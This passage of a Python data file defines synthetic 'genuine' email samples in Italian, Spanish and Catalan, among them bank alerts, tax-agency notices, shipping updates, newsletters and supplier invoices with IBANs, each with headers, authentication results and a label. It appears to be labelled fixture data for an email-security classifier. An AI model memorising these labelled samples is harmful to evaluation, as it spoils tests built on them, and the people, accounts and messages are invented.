             '<ProgressivoInvio>00A7K</ProgressivoInvio><FormatoTrasmissione>FPR12</FormatoTrasmissione>'
             '<CodiceDestinatario>0000000</CodiceDestinatario><PECDestinatario>ceramichesulcis@pec.it</PECDestinatario></DatiTrasmissione>\n'
             '<CedentePrestatore><DatiAnagrafici><IdFiscaleIVA><IdPaese>IT</IdPaese><IdCodice>02231450925</IdCodice></IdFiscaleIVA>'
             '<Anagrafica><Denominazione>Smalti Tirreno S.r.l.</Denominazione></Anagrafica><RegimeFiscale>RF01</RegimeFiscale>'
             '</DatiAnagrafici></CedentePrestatore>\n<CessionarioCommittente><DatiAnagrafici><IdFiscaleIVA><IdPaese>IT</IdPaese>'
             '<IdCodice>03318870921</IdCodice></IdFiscaleIVA><Anagrafica><Denominazione>Ceramiche Sulcis S.r.l.</Denominazione>'
             '</Anagrafica></DatiAnagrafici></CessionarioCommittente>\n</FatturaElettronicaHeader>\n<FatturaElettronicaBody>\n'
             '<DatiGenerali><DatiGeneraliDocumento><TipoDocumento>TD01</TipoDocumento><Divisa>EUR</Divisa><Data>2025-09-30</Data>'
             '<Numero>2025/1142</Numero><ImportoTotaleDocumento>7191.30</ImportoTotaleDocumento></DatiGeneraliDocumento></DatiGenerali>\n'
             '<DatiBeniServizi><DettaglioLinee><NumeroLinea>1</NumeroLinea><Descrizione>Smalto lucido bianco 25 kg</Descrizione>'
             '<Quantita>90.00</Quantita><PrezzoUnitario>65.50</PrezzoUnitario><PrezzoTotale>5895.00</PrezzoTotale>'
             '<AliquotaIVA>22.00</AliquotaIVA></DettaglioLinee></DatiBeniServizi>\n<DatiPagamento><CondizioniPagamento>TP02'
             '</CondizioniPagamento><DettaglioPagamento><ModalitaPagamento>MP05</ModalitaPagamento><DataScadenzaPagamento>2025-10-31'
             '</DataScadenzaPagamento><ImportoPagamento>7191.30</ImportoPagamento><IstitutoFinanziario>BPER Banca</IstitutoFinanziario>'
             '<IBAN>IT88F0538717200000003456789</IBAN></DettaglioPagamento></DatiPagamento>\n</FatturaElettronicaBody>\n'
             '</p:FatturaElettronica>\n').encode()
LEG_WHEN = datetime.fromisoformat("2025-09-30T16:20:05+02:00")
LEG_MID = "<4e1b0f27.SMALTI.1727706005@legalmail.it>"
LEG_INNER = inner_message(
    "smaltitirreno@legalmail.it", "ceramichesulcis@pec.it", "Fattura n. 2025/1142 - Smalti Tirreno S.r.l.", LEG_WHEN, LEG_MID,
    mixed(plain("Spett.le Ceramiche Sulcis S.r.l.,\n\nsi trasmette in allegato la fattura n. 2025/1142 del 30/09/2025 in formato "
                "XML (già inviata tramite SDI) e la relativa copia di cortesia in PDF.\n\nCordiali saluti\nSmalti Tirreno S.r.l.\n"
                "Amministrazione\n"),
          att("IT02231450925_00A7K.xml", FATTURAPA, "application/xml"),
          att("Fattura_2025_1142.pdf", pdf(["Smalti Tirreno S.r.l. - Fattura n. 2025/1142 del 30/09/2025",
                                            "Totale documento: 7.191,30 EUR - Scadenza 31/10/2025",
                                            "Pagamento: bonifico BPER Banca IBAN IT88 F053 8717 2000 0000 3456 789"], "Fattura 2025/1142"))),
    "X-Mailer: Legalmail Webmail\n")
AMZ = "https://www.amazon.it/gp/r.html?C=2Q8VZ1H3K0X7M&K=3OQ5TN1R9Y2WA&M=urn:rtn:msg:20250314091233e1c0a5b2f4&R=1PLJ6C2M0H8GX&T=C&U="

MSGS += [
    dict(slug="it-poste-accredito-postepay", cat="bulk", rc="libero", date="2025-03-03T14:06:31+01:00",
         frm=("Poste Italiane", "noreply@posteitaliane.it"), to="marco.ferrando@libero.it", rp="bounce@mail.posteitaliane.it",
         helo="mailout3.posteitaliane.it", ip="195.120.97.33", auth="pass pass pass", sel="poste2024",
         subj="Hai ricevuto un accredito sulla tua carta Postepay Evolution",
         body=brand("#1f3f91", "Poste Italiane", "Accredito ricevuto", [
             "Gentile Marco,", "ti informiamo che in data 03/03/2025 è stato accreditato un bonifico di <b>250,00 €</b> sulla tua "
             "carta Postepay Evolution che termina con 6612.", "Puoi consultare il dettaglio dei movimenti nell'app PostePay o "
             "nell'area riservata di poste.it.", "<b>Ricorda:</b> Poste Italiane non ti chiederà mai tramite email, SMS o telefono "
             "codici personali, credenziali o i dati della tua carta."],
             ("Vai ai movimenti", "https://www.poste.it/prodotti/postepay-evolution.html"), POSTE_FOOT),
         desc="Genuine Poste Italiane incoming-transfer notice from posteitaliane.it with aligned SPF/DKIM/DMARC and only poste.it links."),

    dict(slug="it-inps-messaggio-myinps", cat="bulk", rc="tiscali", date="2025-04-10T08:15:02+02:00",
         frm=("INPS", "noreply@inps.it"), to="giuliana.pes@tiscali.it", helo="mailout2.inps.it", ip="93.63.172.34",
         auth="pass pass pass", sel="inps1", subj="Nuova comunicazione nella tua area riservata MyINPS",
         body=brand("#005ca9", "INPS", "Hai una nuova comunicazione", [
             "Gentile utente,", "è disponibile una nuova comunicazione relativa alla prestazione <b>Assegno Unico e Universale</b> "
             "nella tua area riservata MyINPS.", "Per consultarla accedi al portale con SPID, CIE o CNS.",
             "INPS non invia mai link per l'inserimento di dati bancari o di carte di pagamento."],
             ("Accedi a MyINPS", "https://www.inps.it/it/it/myinps.html"), "INPS – Istituto Nazionale Previdenza Sociale. "
             "Messaggio generato automaticamente, si prega di non rispondere."),
         desc="Genuine INPS notice of a new message in the MyINPS area, from inps.it passing authentication and pointing only to inps.it."),

    dict(slug="it-ade-precompilata-disponibile", cat="bulk", rc="gmail", date="2025-04-30T10:00:18+02:00",
         frm=("Agenzia delle Entrate", "comunicazioni@agenziaentrate.it"), to="luca.marras81@gmail.com",
         helo="smtp-out1.agenziaentrate.it", ip="217.175.52.19", auth="pass pass pass", sel="ade2025",
         subj="La tua dichiarazione precompilata 2025 è disponibile",
         body=brand("#0b5394", "Agenzia delle Entrate", "Dichiarazione precompilata 2025", [
             "Gentile contribuente,", "da oggi è disponibile la tua dichiarazione precompilata 2025 (redditi 2024). Puoi "
             "visualizzarla, accettarla o modificarla e inviarla dal 15 maggio.",
             "Accedi con SPID, CIE o CNS all'area riservata del sito dell'Agenzia.",
             "L'Agenzia delle Entrate non richiede mai coordinate bancarie o dati di carte di credito via email."],
             ("Vai alla precompilata", "https://infoprecompilata.agenziaentrate.gov.it/portale/"),
             "Agenzia delle Entrate – Via Giorgione 106, 00147 Roma"),
         desc="Genuine Agenzia delle Entrate pre-filled tax return announcement, authenticated from agenziaentrate.it with a link to the official portal."),

    dict(slug="it-intesa-nuovo-accesso", cat="bulk", rc="outlook", date="2025-04-02T19:43:27+02:00",
         frm=("Intesa Sanpaolo", "notifiche@intesasanpaolo.com"), to="ilaria.bo@outlook.it", helo="mta-out5.intesasanpaolo.com",
         ip="194.79.232.45", auth="pass pass pass", sel="isp2023", subj="Nuovo accesso all'app Intesa Sanpaolo Mobile",
         body=brand("#00633c", "Intesa Sanpaolo", "Nuovo accesso rilevato", [
             "Gentile Cliente,", "hai effettuato l'accesso all'app Intesa Sanpaolo Mobile da un nuovo dispositivo (iPhone 15) il "
             "02/04/2025 alle 19:42.", "Se sei stato tu non devi fare nulla. Se non riconosci l'accesso chiama subito il numero "
             "verde 800.303.303 (dall'estero +39 011 80 19 200).", "Intesa Sanpaolo non ti chiederà mai codici O-Key o "
             "credenziali tramite email, SMS o telefonate."],
             ("Scopri come proteggerti", "https://www.intesasanpaolo.com/it/common/footer/sicurezza.html"),
             "Intesa Sanpaolo S.p.A. – Sede legale Piazza San Carlo 156, 10121 Torino"),
         desc="Genuine Intesa Sanpaolo new-device sign-in alert with the bank's real phone number, authenticated from intesasanpaolo.com."),

    dict(slug="it-amazon-spedito", cat="bulk", rc="virgilio", date="2025-03-14T09:12:33+01:00",
         frm=("Amazon.it", "conferma-spedizione@amazon.it"), to="rosanna.deiana@virgilio.it",
         rp="20250314081233e1c0a5b2f4c8@bounces.amazon.it", helo="a48-93.smtp-out.amazonses.com",
         rdns="a48-93.smtp-out.amazonses.com", ip="54.240.48.93", auth="pass pass pass", sel="yg4mwqurec7fkhzutopddd3ytuaqrvuz",
         dkd2="amazonses.com", sel2="224i4yxa5dv7c2xz3womw6peuasteono", subj="Spedito: \"Philips Sonicare ProtectiveClean...\"",
         hdr=["X-AMAZON-MAIL-RELAY-TYPE: notification", "Feedback-ID: 1.eu-west-1.Ys2ptPnDs4Z3C0J3t7XuHxqOq1b3vjE2gZrnKNXN2dU=:AmazonSES"],
         body=brand("#232f3e", "amazon.it", "Il tuo pacco è stato spedito!", [
             "Ciao Rosanna,", "il tuo ordine <b>#171-4482207-9012653</b> è stato spedito e arriverà <b>domenica 16 marzo</b>.",
             "Philips Sonicare ProtectiveClean 4300, spazzolino elettrico – Quantità: 1<br>Testine di ricambio C2 Optimal Plaque "
             "Defence, 4 pezzi – Quantità: 1", "Corriere: Amazon Logistics"],
             ("Traccia il pacco", AMZ + "https%3A%2F%2Fwww.amazon.it%2Fprogress-tracker%2Fpackage%3ForderId%3D171-4482207-9012653"
              "&H=QW1ZCWU8L7HDQKXMJE7O0F1S9TEA&ref_=pe_24968671_1024637531"),
             "Questa email è stata inviata da Amazon EU S.à r.l., 38 avenue John F. Kennedy, L-1855 Lussemburgo."),
         desc="Genuine Amazon.it shipment confirmation via Amazon SES with amazon.it and amazonses.com DKIM and an amazon.it click-tracking redirect."),

    dict(slug="it-enel-bolletta-disponibile", cat="bulk", rc="libero", date="2025-05-08T07:30:44+02:00",
         frm=("Enel Energia", "noreply@comunicazioni.enel.it"), to="g.pintus@libero.it",
         rp="bounce-1053_HTML-771280443-118204-7291044-61@bounce.comunicazioni.enel.it", helo="mta4.comunicazioni.enel.it",
         rdns="mta4.comunicazioni.enel.it", ip="13.111.40.22", auth="pass pass pass", sel="200608", pol="p=REJECT sp=REJECT",
         hdr=["List-Unsubscribe: <https://click.comunicazioni.enel.it/subscription_center.aspx?jwt=eyJhbGciOiJIUzI1NiJ9.eyJtaWQiOjcyOTEwNDR9.x>"],
         subj="La tua bolletta Enel Energia di aprile è disponibile",
         body=brand("#008c5a", "Enel Energia", "La tua bolletta è disponibile", [
             "Ciao Gavino,", "la bolletta di aprile per la fornitura di luce in Via Sassari 14, Alghero è disponibile nell'area "
             "clienti.", "Importo: <b>€ 71,38</b> – addebito diretto SEPA sul conto IT** **** 0933 il 22/05/2025."],
             ("Visualizza la bolletta", "https://click.comunicazioni.enel.it/?qs=" + tok("l6", 96)),
             "Enel Energia S.p.A. – Società con unico socio – Viale Regina Margherita 125, 00198 Roma"),
         desc="Genuine Enel Energia bill-ready notice sent through Salesforce Marketing Cloud on an enel.it subdomain with aligned authentication and click-tracking links."),

    dict(slug="it-aruba-servizi-in-scadenza", cat="bulk", rc="aruba", date="2025-08-19T10:11:09+02:00",
         frm=("Aruba.it", "comunicazioni@staff.aruba.it"), to="info@agriturismocampuomu.it", helo="smtpcmd04.aruba.it",
         rdns="smtpcmd04.ad.aruba.it", ip="62.149.157.4", auth="pass pass pass", sel="a1", pol="p=REJECT sp=REJECT",
         subj="Servizi in scadenza: agriturismocampuomu.it",
         body=brand("#e8561f", "Aruba.it", "I tuoi servizi sono in scadenza", [
             "Gentile Cliente,", "ti ricordiamo che il dominio <b>agriturismocampuomu.it</b> e il servizio Hosting Linux associato "
             "scadranno il 18/09/2025.", "Il rinnovo automatico è attivo sulla carta che termina con 0412: l'addebito di "
             "<b>€ 24,38 IVA inclusa</b> avverrà 7 giorni prima della scadenza. Non è richiesta alcuna azione da parte tua.",
             "Puoi verificare o modificare le impostazioni dall'area clienti."],
             ("Vai all'area clienti", "https://managehosting.aruba.it/rinnovo-servizi.aspx"),
             "Aruba S.p.A. – Via San Clemente 53, 24036 Ponte San Pietro (BG) – P.IVA 01573850516"),
         desc="Genuine Aruba renewal reminder for a customer domain from staff.aruba.it, authenticated, with a link to the real Aruba customer area."),

    dict(slug="it-pec-fatturapa-legalmail", cat="clean", rc="pec", date="2025-09-30T16:20:09+02:00",
         frm=("Per conto di: smaltitirreno@legalmail.it", "posta-certificata@legalmail.it"), to="ceramichesulcis@pec.it",
         helo="pec-out2.legalmail.it", rdns="pec-out2.legalmail.it", ip="217.61.46.19", auth="pass none none",
         subj="POSTA CERTIFICATA: Fattura n. 2025/1142 - Smalti Tirreno S.r.l.",
         mid="<opec2851.20250930162005.11833.29.1.66@legalmail.it>",
         hdr=["Reply-To: smaltitirreno@legalmail.it", "X-Riferimento-Message-ID: " + LEG_MID, "X-Trasporto: posta-certificata"],
         body=pec_envelope("smaltitirreno@legalmail.it", "ceramichesulcis@pec.it", "Fattura n. 2025/1142 - Smalti Tirreno S.r.l.",
                           LEG_WHEN, LEG_INNER, "InfoCert S.p.A.", "opec2851.20250930162005.11833.29.1.66@legalmail.it", LEG_MID),
         desc="Genuine PEC delivery from the supplier's Legalmail box carrying a FatturaPA XML and courtesy PDF with the supplier's usual BPER IBAN."),

    dict(slug="it-mailup-newsletter-enoteca", cat="bulk", rc="tf", date="2025-11-28T11:00:07+01:00",
         frm=("Enoteca Sapori di Liguria", "newsletter@saporidiliguria.it"), to="p.tola@tirreniafibra.it",
         rp="m-1412-8820331-x7@bounce.emailsp.com", helo="smtp117.emailsp.com", rdns="smtp117.emailsp.com", ip="109.168.121.117",
         auth="pass pass pass", sel="mup", dkd2="emailsp.com", sel2="mailup",
         hdr=["List-Unsubscribe: <https://saporidiliguria.emailsp.com/frontend/nl_catalog.aspx?optout=1&u=8820331>",
              "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "List-ID: <1412.saporidiliguria.emailsp.com>"],
         subj="Black Friday in enoteca: -20% su Vermentino e Rossese",
         body=news("#7b1e3a", "Sapori di Liguria", "Ciao Pietro, fino a lunedì tutti i vini liguri in catalogo sono scontati del "
                   "20%, anche in negozio a Chiavari.", [
                       ("Vermentino Colli di Luni DOC", "Fresco, sapido, perfetto con il pesce: 13,50 € invece di 16,90 €.",
                        "https://saporidiliguria.emailsp.com/f/rnl.aspx/?kfk=" + tok("l9a", 10) + "&x=pv&gcb=5&y=1"),
                       ("Rossese di Dolceacqua", "Il rosso del Ponente in edizione limitata.",
                        "https://saporidiliguria.emailsp.com/f/rnl.aspx/?kfk=" + tok("l9b", 10) + "&x=pv&gcb=6&y=1"),
                       ("Cesti di Natale", "Componi il tuo cesto con pesto, olio taggiasco e vini.",
                        "https://saporidiliguria.emailsp.com/f/rnl.aspx/?kfk=" + tok("l9c", 10) + "&x=pv&gcb=7&y=1")],
                   "Sapori di Liguria s.n.c. – Corso Garibaldi 22, Chiavari (GE). Ricevi questa email perché ti sei iscritto alla "
                   "newsletter. <a href=\"https://saporidiliguria.emailsp.com/frontend/nl_catalog.aspx?optout=1&u=8820331\">Cancellati</a>"),
         desc="Genuine local wine shop newsletter sent through MailUp with aligned DKIM, one-click unsubscribe and every link behind MailUp tracking."),

    dict(slug="it-fornitore-fattura-iban", cat="clean", rc="m365", date="2025-06-05T11:48:19+02:00",
         frm=("Tipografia Marini", "amministrazione@tipografiamarini.it"), to=("Laura Ferrari", "amministrazione@ottica-lunardi.it"),
         helo="smtpdh12.aruba.it", rdns="smtpdh12.ad.aruba.it", ip="62.149.155.172", auth="pass pass pass", sel="a1",
         hops=[("PC-AMMINISTRAZ", "79.23.148.201", "smtpdh12.aruba.it")],
         subj="Fattura n. 87/2025 - volantini e biglietti da visita",
         body=mixed(ol("Buongiorno Laura,\n\nin allegato la fattura n. 87/2025 relativa ai volantini per i saldi estivi e ai "
                       "biglietti da visita consegnati ieri.\nL'originale vi arriva come sempre tramite SDI.\n\n"
                       "Pagamento con bonifico a 30 giorni data fattura sulle coordinate di sempre:\n"
                       "IBAN IT60 X054 2811 1010 0000 0123 456 - BPER Banca, filiale di Genova Sampierdarena.\n\n"
                       "Grazie e buona giornata", "Silvia Marini\nTipografia Marini s.a.s.\nVia Cantore 41r - 16149 Genova\n"
                       "Tel. 010 412 2290"),
                    att("Fattura_87_2025_Ottica_Lunardi.pdf", pdf([
                        "Tipografia Marini s.a.s. - Fattura n. 87/2025 del 05/06/2025", "Cliente: Ottica Lunardi s.n.c.",
                        "Volantini A5 4000 pz - Biglietti da visita 500 pz", "Totale: 478,24 EUR (IVA inclusa)",
                        "Bonifico 30 gg d.f. - IBAN IT60 X054 2811 1010 0000 0123 456"], "Fattura 87/2025"))),
         desc="Genuine supplier invoice from a print shop's Aruba mailbox with the long-standing IBAN and a PDF copy, authentication passing."),

    dict(slug="it-personale-foto-camogli", cat="clean", rc="libero", date="2025-06-23T21:14:40+02:00",
         frm=("Rossella Ferrando", "rossella.ferrando@gmail.com"), to="marco.ferrando@libero.it",
         helo="mail-wm1-f54.google.com", ip="209.85.128.54", auth="pass pass pass", dkd="gmail.com", sel="20230601",
         mid="<CAGp3nR8-Xs1Kq7Lm0Vz4_Tw2Yb9Hc6Ed5Jf@mail.gmail.com>", subj="Foto di domenica a Camogli",
         body=mixed(gm("Ciao Marco,\n\nti mando un paio di foto di domenica, quella con la mamma sulla spiaggia è venuta benissimo!\n"
                       "Le altre le carico sul drive condiviso appena ho tempo.\n\nCi vediamo sabato per il compleanno di Giulia? "
                       "Porto io la focaccia.\n\nBaci\nRossella"),
                    att("IMG_20250622_173012.jpg", files.photo_jpeg(27), "image/jpeg"),
                    att("IMG_20250622_181544.jpg", files.photo_jpeg(28), "image/jpeg")),
         desc="Personal mail between siblings with two holiday photos attached, from Gmail to Libero, authentication passing."),

    dict(slug="it-interno-mfa-m365", cat="clean", rc="m365", date="2025-09-05T17:32:51+02:00",
         frm=("Andrea Lunardi", "andrea.lunardi@ottica-lunardi.it"), to="tutti@ottica-lunardi.it",
         helo="GV1PR08MB8473.eurprd08.prod.outlook.com", ip="52.101.69.12", auth="pass pass pass", sel="selector1",
         mid="<GV1PR08MB8473A1C2D4E5F60718293A4B5C6D7@GV1PR08MB8473.eurprd08.prod.outlook.com>",
         subj="Da lunedì attiviamo la verifica in due passaggi su Microsoft 365",
         body=ol("Ciao a tutti,\n\nda lunedì 8 settembre attiviamo la verifica in due passaggi (MFA) sugli account Microsoft 365 "
                 "del negozio.\nAl primo accesso vi verrà chiesto di installare l'app Microsoft Authenticator sul telefono e di "
                 "inquadrare il codice che compare sullo schermo del PC.\n\nLe istruzioni passo passo sono qui:\n"
                 "https://otticalunardi.sharepoint.com/sites/Negozio/Documenti%20condivisi/Istruzioni_MFA.pdf\n\n"
                 "Ricordate: non vi chiederò mai la password via email o WhatsApp. Per dubbi passate da me in laboratorio.\n\n"
                 "Grazie,\nAndrea"),
         desc="Genuine internal IT notice within the optician's own Microsoft 365 tenant announcing MFA, linking to the company's own SharePoint."),
]

# ---- legitimate, Spain and Catalonia

MC = "https://llibrerialacarbonera.us14.list-manage.com/track/click?u=5f3e9a1c7b2d84e6f0a9c31d2&id="

MSGS += [
    dict(slug="es-aeat-renta-datos-fiscales", cat="bulk", rc="movistar", date="2025-04-02T09:00:12+02:00",
         frm=("Agencia Tributaria", "noreply@correo.aeat.es"), to="jordi.puig@movistar.es", helo="smtp2.correo.aeat.es",
         ip="195.235.208.41", auth="pass pass pass", sel="aeat", pol="p=REJECT sp=REJECT",
         subj="Campaña de Renta 2024: ya puede consultar sus datos fiscales",
         body=brand("#8e1b1b", "Agencia Tributaria", "Campaña de Renta 2024", [
             "Estimado/a contribuyente:", "Le informamos de que desde hoy puede consultar sus datos fiscales y el borrador de su "
             "declaración de la Renta 2024 en la Sede electrónica, identificándose con Cl@ve, certificado electrónico o número "
             "de referencia.", "La Agencia Tributaria nunca le solicitará por correo electrónico datos bancarios, números de "
             "tarjeta ni claves de acceso."],
             ("Ir a Renta 2024", "https://sede.agenciatributaria.gob.es/Sede/Renta.html"),
             "Agencia Estatal de Administración Tributaria", lang="es"),
         desc="Genuine Agencia Tributaria start-of-campaign notice, authenticated, pointing to the official sede.agenciatributaria.gob.es."),

    dict(slug="es-correos-envio-en-reparto", cat="bulk", rc="movistar", date="2025-06-10T08:22:45+02:00",
         frm=("Correos", "notificaciones@correos.es"), to="m.garcia.lopez@telefonica.net", helo="mta1.correos.es",
         ip="194.224.182.71", auth="pass pass pass", sel="crs1", subj="Tu envío PK3G7A0711122230108001X está en reparto",
         body=brand("#ffcd00", "Correos", "Hoy recibes tu envío", [
             "Hola,", "tu envío <b>PK3G7A0711122230108001X</b> enviado por ZALANDO SE está en reparto y lo recibirás hoy entre "
             "las 10:00 y las 14:00.", "Si no vas a estar en casa, puedes cambiar la entrega a una oficina o a un Citypaq desde "
             "el localizador."],
             ("Seguir mi envío", "https://www.correos.es/es/es/herramientas/localizador/envios/detalle?tracking-number="
              "PK3G7A0711122230108001X"), "Sociedad Estatal Correos y Telégrafos, S.A., S.M.E. – Correos nunca te pedirá pagos "
             "por email o SMS para entregar un envío nacional.", lang="es"),
         desc="Genuine Correos out-for-delivery notice from correos.es with passing authentication and a link to the official tracker."),

    dict(slug="es-bbva-nuevo-dispositivo", cat="bulk", rc="movistar", date="2025-01-22T20:14:06+01:00",
         frm=("BBVA", "bbva@comunicaciones.bbva.es"), to="j.martinez@movistar.es", rp="bounce@comunicaciones.bbva.es",
         helo="mail5.comunicaciones.bbva.es", ip="195.76.9.136", auth="pass pass pass", sel="bbva1", pol="p=REJECT sp=REJECT",
         subj="Has accedido a BBVA desde un nuevo dispositivo",
         body=brand("#004481", "BBVA", "Nuevo dispositivo vinculado", [
             "Hola Javier,", "el 22/01/2025 a las 20:11 has vinculado un nuevo dispositivo (Samsung Galaxy A55) a tu app BBVA.",
             "Si has sido tú, no tienes que hacer nada. Si no reconoces esta operación llama al 91 224 94 26.",
             "En BBVA nunca te pediremos tus claves ni códigos por email, SMS o teléfono."],
             ("Consejos de seguridad", "https://www.bbva.es/general/seguridad.html"), "BBVA, S.A. – Plaza de San Nicolás 4, 48005 Bilbao",
             lang="es"),
         desc="Genuine BBVA new-device alert with the bank's phone number, from a bbva.es subdomain with aligned authentication."),

    dict(slug="es-caixabank-extracto-tarjeta", cat="bulk", rc="gmail", date="2025-04-03T07:05:39+02:00",
         frm=("CaixaBank", "comunicaciones@caixabank.com"), to="montse.riera@gmail.com", helo="smtpout3.caixabank.com",
         ip="195.77.93.54", auth="pass pass pass", sel="cxb2024", subj="Ya tienes disponible el extracto de tu tarjeta",
         body=brand("#007eae", "CaixaBank", "Extracto de marzo disponible", [
             "Hola, Montserrat:", "ya puedes consultar en CaixaBankNow el extracto de marzo de tu tarjeta terminada en 8830.",
             "Importe a liquidar: <b>412,65 €</b>, que se cargará en tu cuenta el 05/04/2025.",
             "Recuerda que CaixaBank nunca te pedirá claves o códigos por correo electrónico."],
             ("Acceder a CaixaBankNow", "https://www.caixabank.es/particular/home/particulares_es.html"),
             "CaixaBank, S.A. – Calle Pintor Sorolla 2-4, 46002 Valencia", lang="es"),
         desc="Genuine CaixaBank monthly card statement notice from caixabank.com, authenticated, linking only to caixabank.es."),

    dict(slug="es-bizum-novedades-comercios", cat="bulk", rc="gmail", date="2025-05-27T12:30:00+02:00",
         frm=("Bizum", "novedades@info.bizum.es"), to="david.ortega92@gmail.com", rp="bounce-77_HTML-3320@bounce.info.bizum.es",
         helo="mta7.info.bizum.es", ip="13.111.84.97", auth="pass pass pass", sel="200608", pol="p=REJECT sp=REJECT",
         hdr=["List-Unsubscribe: <https://click.info.bizum.es/subscription_center.aspx?qs=" + tok("l17u", 40) + ">"],
         subj="Novedades Bizum: ya puedes pagar en tiendas físicas",
         body=news("#05c3dd", "bizum", "Hola, te contamos las novedades de Bizum de este mes:", [
             ("Paga en tiendas con tu móvil", "Ya puedes pagar con Bizum en comercios adheridos escaneando un código QR en caja.",
              "https://click.info.bizum.es/?qs=" + tok("l17a", 80)),
             ("Dona a ONG", "Más de 9.000 organizaciones ya reciben donaciones con Bizum.", "https://click.info.bizum.es/?qs=" + tok("l17b", 80)),
             ("Consejos de seguridad", "Bizum nunca te pedirá que aceptes un pago para recibir dinero.",
              "https://click.info.bizum.es/?qs=" + tok("l17c", 80))],
             "Bizum, S.L. – Calle Francisco Sancha 12, 28034 Madrid. Recibes este correo porque estás registrado en Bizum.", "es"),
         desc="Genuine Bizum product newsletter via Salesforce Marketing Cloud on an info.bizum.es subdomain with aligned authentication and tracked links."),

    dict(slug="es-endesa-factura-disponible", cat="bulk", rc="movistar", date="2025-12-02T09:41:16+01:00",
         frm=("Endesa", "facturaelectronica@endesa.es"), to="rosa.pons@movistar.es",
         rp="bounce-2288_HTML-10448-55021-3@bounce.comunicaciones.endesa.es", helo="mta2.comunicaciones.endesa.es",
         ip="13.111.62.30", auth="pass pass pass", sel="200608",
         subj="Tu factura de luz de noviembre ya está disponible",
         body=brand("#0555fa", "endesa", "Tu factura ya está disponible", [
             "Hola, Rosa:", "ya puedes consultar tu factura de luz de noviembre en tu Área Clientes.",
             "Importe: <b>64,12 €</b>. Se cargará en tu cuenta ES** **** **** **** **** 4417 el 12/12/2025."],
             ("Ver factura", "https://click.comunicaciones.endesa.es/?qs=" + tok("l18", 96)),
             "Endesa Energía, S.A.U. – Calle Ribera del Loira 60, 28042 Madrid", lang="es"),
         desc="Genuine Endesa e-bill notice with amount and direct-debit date, authenticated from endesa.es with Marketing Cloud click tracking."),

    dict(slug="ca-mailchimp-newsletter-llibreria", cat="bulk", rc="gmail", date="2025-10-09T18:05:22+02:00",
         frm=("Llibreria La Carbonera", "hola@llibrerialacarbonera.cat"), to="ricard.font@gmail.com",
         rp="bounce-mc.us14_88123456.1204471-7a2f3c@mail139.suw121.mcsv.net", helo="mail139.suw121.mcsv.net",
         rdns="mail139.suw121.mcsv.net", ip="198.2.139.150", auth="pass pass pass", sel="k2", dkd2="mcsv.net", sel2="k3",
         hdr=["List-Unsubscribe: <https://llibrerialacarbonera.us14.list-manage.com/unsubscribe?u=5f3e9a1c7b2d84e6f0a9c31d2&id=4b1e7d90a2>",
              "List-Unsubscribe-Post: List-Unsubscribe=One-Click", "X-Mailer: Mailchimp Mailer - **CID7a2f3c1204**"],
         subj="Novetats d'octubre i presentacions a la llibreria",
         body=news("#2e5e4e", "La Carbonera", "Hola Ricard! Aquest mes tenim tres presentacions i una taula nova de novel·la negra.", [
             ("Presentació: «Els dies de la verema»", "Dijous 16 a les 19 h, amb l'autora i un tast de vi del Bages.",
              MC + "a1b2c3d4e5&e=8f2c4a1b7d"),
             ("Club de lectura", "Comencem el cicle de clàssics catalans. Places limitades.", MC + "b2c3d4e5f6&e=8f2c4a1b7d"),
             ("Taula de novel·la negra", "Vint recomanacions de l'equip per a la tardor.", MC + "c3d4e5f6a7&e=8f2c4a1b7d")],
             "Llibreria La Carbonera – Carrer de Sant Pere 8, Manresa. <a href=\"https://llibrerialacarbonera.us14.list-manage.com/"
             "unsubscribe?u=5f3e9a1c7b2d84e6f0a9c31d2&id=4b1e7d90a2\">Donar-se de baixa</a>", "ca"),
         desc="Genuine Catalan bookshop newsletter sent through Mailchimp with list-manage click tracking, one-click unsubscribe and aligned DKIM."),

    dict(slug="es-brevo-newsletter-coworking", cat="bulk", rc="outlook", date="2025-02-20T10:15:48+01:00",
         frm=("Coworking El Carme", "hola@coworkingelcarme.es"), to="fernando.gil@outlook.es",
         rp="bounces-5512087-hola=coworkingelcarme.es@brevosend.com", helo="s3-mailer.brevosend.com", rdns="s3-mailer.brevosend.com",
         ip="77.32.148.63", auth="pass pass pass", sel="brevo1",
         hdr=["List-Unsubscribe: <https://a7kq2.r.sp1-brevo.net/mk/un/v2/sh/7Rf2Vn3XoPq8Lz>", "X-Mailin-Client: 5512087",
              "X-Mailin-Campaign: 48"],
         subj="Febrero en El Carme: taller de facturación y afterwork",
         body=news("#d9480f", "Coworking El Carme", "¡Hola! Estas son las actividades de febrero para la comunidad del coworking:", [
             ("Taller: facturación electrónica y Verifactu", "Martes 25, 18:30 h. Gratuito para miembros.",
              "https://a7kq2.r.sp1-brevo.net/mk/cl/f/sh/7Rf2Vn3XoPq8Lz/" + tok("l20a", 20, ALNUM)),
             ("Afterwork en la terraza", "Viernes 28 a partir de las 19 h.", "https://a7kq2.r.sp1-brevo.net/mk/cl/f/sh/7Rf2Vn3XoPq8Lz/"
              + tok("l20b", 20, ALNUM)),
             ("Nuevas tarifas de puesto fijo", "Consulta los cambios a partir de marzo.",
              "https://a7kq2.r.sp1-brevo.net/mk/cl/f/sh/7Rf2Vn3XoPq8Lz/" + tok("l20c", 20, ALNUM))],
             "Coworking El Carme – Calle Alta 12, 46003 Valencia. <a href=\"https://a7kq2.r.sp1-brevo.net/mk/un/v2/sh/7Rf2Vn3XoPq8Lz\">"
             "Darse de baja</a>", "es"),
         desc="Genuine coworking-space newsletter through Brevo with the sender's own aligned DKIM and Brevo click-tracking links."),

    dict(slug="es-proveedor-factura-iban", cat="clean", rc="gws", date="2025-02-03T12:44:10+01:00",
         frm=("Raúl Ibáñez", "raul.ibanez@embalajesdelturia.es"), to=("Amparo Vidal", "amparo.vidal@ceramicaslevante.es"),
         helo="mail-sor-f41.google.com", ip="209.85.220.41", auth="pass pass pass", sel="google",
         mid="<CAF3kYw5-Hq8Nm2Pz6Vr1Xt0Lc4Ja9Ue7Bd@mail.gmail.com>", subj="Factura F25-0211 - pedido 4439",
         body=mixed(gm("Hola Amparo,\n\nte adjunto la factura F25-0211 del pedido 4439 (palets europeos y film estirable).\n"
                       "Forma de pago la de siempre: transferencia a 30 días a nuestra cuenta de CaixaBank "
                       "ES21 2100 4521 7302 0015 8840.\n\nCualquier cosa me dices.\n\nUn saludo,\nRaúl Ibáñez\n"
                       "Embalajes del Turia, S.L. - Tel. 961 54 22 87"),
                    att("F25-0211.pdf", pdf(["EMBALAJES DEL TURIA SL - Factura F25-0211 - 03/02/2025",
                                             "Cliente: CERAMICAS LEVANTE SL", "Total: 4.312,90 EUR",
